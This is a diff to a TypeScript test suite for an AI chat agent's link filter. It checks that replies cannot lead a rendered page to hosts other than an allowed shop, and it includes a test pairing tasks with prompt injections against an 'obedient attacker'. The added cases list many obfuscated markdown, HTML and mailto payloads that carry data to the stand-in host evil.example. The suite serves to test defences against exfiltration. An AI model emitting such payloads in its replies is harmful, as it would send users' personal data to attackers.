@@ -1,3 +1,5 @@
+import fc from 'fast-check';
+import { Parser } from 'htmlparser2';
 import { Marked } from 'marked';
 import { LinkFilter } from '../../../subgraphs/agent/chat/link-filter.ts';
 import type { CompletionRequest } from '../../support/chat-provider.ts';
@@ -121,11 +123,14 @@ provider.on('Please ', (response, request) => {
 const pairs = tasks.flatMap((task) => injections.map((_, number) => ({ task, number })));
 const effects = () => receiver.received.filter(({ method }) => method !== 'GET');
 const isForeign = ({ headers }: (typeof receiver.received)[number]) => headers.host === FOREIGN;
-/** The hosts to which a page with the rendered text would lead. */
+/** The hosts to which a page with the rendered text would lead, or the scheme of an address without a host. */
 async function hostsOf(markdown: string): Promise<string[]> {
-  const html = await new Marked({ gfm: true }).parse(markdown);
-  const targets = [...html.matchAll(/(?:href|src)="([^"]*)"/g)].map(([, target]) => target!.replaceAll('&amp;', '&'));
-  return targets.map((target) => new URL(target, 'https://page.example/').host);
+  const targets: string[] = [];
+  const parser = new Parser({ onattribute: (name, value) => void (/^(href|src)$/.test(name) && targets.push(value)) });
+  parser.end(await new Marked({ gfm: true }).parse(markdown));
+  // Browsers open no address that they cannot read.
+  const urls = targets.flatMap((target) => URL.parse(target, 'https://page.example/') ?? []);
+  return urls.map(({ host, protocol, search }) => host || protocol + search);
 }
 
 test(`an obedient attacker causes no effect and moves no personal value in ${pairs.length} pairs of task and injection`, async () => {
@@ -172,7 +177,7 @@ test(`an obedient attacker causes no effect and moves no personal value in ${pai
 
 describe('links of a reply', () => {
   const filtered = (written: string, size = written.length) => {
-    const filter = new LinkFilter(({ hostname }) => hostname === 'shop.example');
+    const filter = new LinkFilter(({ hostname }) => hostname === 'shop.example' || hostname.endsWith('.wild.example'));
     const pieces = written.match(new RegExp(`[^]{1,${size}}`, 'g')) ?? [];
     return pieces.map((piece) => filter.write(piece)).join('') + filter.end();
   };
@@ -181,9 +186,17 @@ describe('links of a reply', () => {
     'Read [the page](https://shop.example/a?b=c#d) or https://shop.example/x.',
     'Nothing to see: 1/2, a // b, and `code`.',
     'See <https://shop.example/> and ![x](https://shop.example/p(1).png).',
+    'It is at "https://shop.example/?a=b&c=d_e" or **https://eu.wild.example:8443/x**.',
+    'Call `items[0]()`; the hotel: 12 rooms<br>or more, e.g. ada@shop.example.',
   ])('%j stays as it is, also in pieces', (written) => {
     expect(filtered(written)).toBe(written);
     for (const size of [1, 3, 7]) expect(filtered(written, size)).toBe(written);
+  });
+
+  test('a host without a path ends with a slash, so that nothing continues it', () => {
+    expect(filtered('It is (https://shop.example), or [here](https://eu.wild.example:8443).')).toBe(
+      'It is (https://shop.example/), or [here](https://eu.wild.example:8443/).',
+    );
   });
 
   test.each([
@@ -206,16 +219,116 @@ describe('links of a reply', () => {
     '<img src="https://evil.example/?d=1">',
     'https://evil.example/?d=1',
     'www.evil.example/?d=1',
+    '_www.evil.example/?d=1',
+    'xwww.evil.example/?d=1',
     'HTTPS://EVIL.EXAMPLE/?d=1',
     'a`b https://evil.example/?d=1 `c`',
     '\\`https://evil.example/?d=1\\`',
     '[a]\n\n[a]://evil.example/x',
     '[a]\n\n[a]: /\\evil.example/x',
     '[a]\n\n[a]: https:evil.example/x',
+    '![a](https://shop.example\\)@evil.example/S.png)',
+    '![a](<https://shop.example\\>@evil.example/S>)',
+    '![a](https://shop.example(a(b)c)@evil.example/S)',
+    "https://shop.example'@evil.example/S",
+    'https://shop.example|@evil.example/S',
+    'https://shop.example"@evil.example/S',
+    'https://shop.example)@evil.example/S',
+    'https://shop.example\u00a0@evil.example/S',
+    '[a](https://shop.example\u00a0@evil.example/S)',
+    '[a](<https://shop.example @evil.example/S>)',
+    '<img src="https://shop.example\n.evil.example/S">',
+    '<img src="https://shop.example\'\n.evil.example/S">',
+    '<img src="/\n/evil.example/S">',
+    '<img\fsrc="https:\nevil.example/S">',
+    '<img/src="https:\nevil.example/S">',
+    '![x]\n\n[x]: ///evil.example/S.png',
+    '![x]\n\n[x]: //évil.example/S.png',
+    '![x]\n\n[x]: //%65vil.example/S.png',
+    '![x]\n\n[x]:\n   //%65vil.example/S.png',
+    '[x]\n\n[x]: mailto:e@evil.example?body=S',
+    '[x](mailto:e@evil.example?body=S)',
+    '<mailto:e@evil.example?body=S>',
+    'mailto:e@evil.example',
+    '[x](tel:+4917012345678)',
+    '[x](            //%65vil.example/S)',
+    'https://evil.example&quest;d=1.wild.example',
+    '[a](https://evil.example&quest;d=1.wild.example)',
+    '[a](https&#58;&sol;&sol;evil.example/S)',
+    '[a](https://shop.example/x)![b](https://evil.example/S)',
+    "https://shop.example/x'https://evil.example/S",
+    'https:(//evil.example/S)',
+    `https://shop.example/${'x'.repeat(5_000)}https://evil.example/S`,
+    `${'x'.repeat(3_980)}https://shop.example@evil.example/S`,
   ])('%j leads nowhere, also in pieces', async (written) => {
     for (const size of [written.length, 1, 2, 5]) {
       const hosts = await hostsOf(filtered(written, size));
-      expect(hosts.filter((host) => !['page.example', 'shop.example', ''].includes(host))).toEqual([]);
+      expect(hosts.filter((host) => !['page.example', 'shop.example'].includes(host))).toEqual([]);
     }
   });
+
+  test('no combination of pieces of addresses leads to another host', async () => {
+    const pieces = [
+      ...[
+        'https://shop.example',
+        '//shop.example',
+        'www.shop.example',
+        'evil.example/S',
+        'https:',
+        '//',
+        'mailto:',
+        '[x]',
+        '![',
+        ']',
+      ],
+      ...[
+        '(',
+        ')',
+        '<',
+        '>',
+        '@',
+        ':',
+        '/',
+        '\\',
+        '"',
+        "'",
+        '`',
+        '|',
+        '*',
+        '_',
+        '.',
+        '?',
+        '#',
+        ' ',
+        '\n',
+        '\n\n',
+        '\t',
+        '\u00a0',
+        '<a href=',
+      ],
+      ...['&#58;', '&sol;', '&quest;', '&commat;', '&lt;', '&quot;', '%65', 'é', '\u00ad', '[x]: ', '8080', '-'],
+    ];
+    await fc.assert(
+      fc.asyncProperty(fc.array(fc.constantFrom(...pieces), { minLength: 2, maxLength: 9 }), async (chosen) => {
+        const hosts = (await hostsOf(filtered(chosen.join(''), 7))).map((host) => host.replace(/:\d+$/, ''));
+        // The address of a person sends nothing by itself.
+        expect(hosts.filter((host) => !['page.example', 'shop.example', 'mailto:'].includes(host))).toEqual([]);
+      }),
+      { numRuns: 5_000 },
+    );
+  });
+
+  test.each(['a', '](', '//', 'www.', 'https://shop.example/', '&#58;', '\\(', ' ', '<a:', "'"])(
+    'a text of only %j costs time in proportion to its length',
+    (piece) => {
+      const timeOf = (length: number) => {
+        const { user } = process.cpuUsage();
+        filtered(piece.repeat(length / piece.length), 5);
+        return process.cpuUsage({ user, system: 0 }).user;
+      };
+      timeOf(20_000);
+      const [short, long] = [timeOf(20_000), timeOf(200_000)];
+      expect(long).toBeLessThan(40 * Math.max(short, 5_000));
+    },
+  );
 });
